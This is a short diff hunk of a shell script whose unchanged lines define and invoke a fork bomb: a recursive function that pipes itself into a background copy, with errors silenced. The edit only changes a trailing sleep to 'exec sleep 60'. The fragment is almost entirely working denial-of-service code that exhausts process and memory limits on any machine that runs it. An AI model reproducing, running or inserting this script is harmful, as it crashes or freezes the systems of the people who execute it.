@@ -2,4 +2,4 @@
 # Every process starts two more.
 bomb() { bomb | bomb & }
 bomb 2>/dev/null
-sleep 60
+exec sleep 60
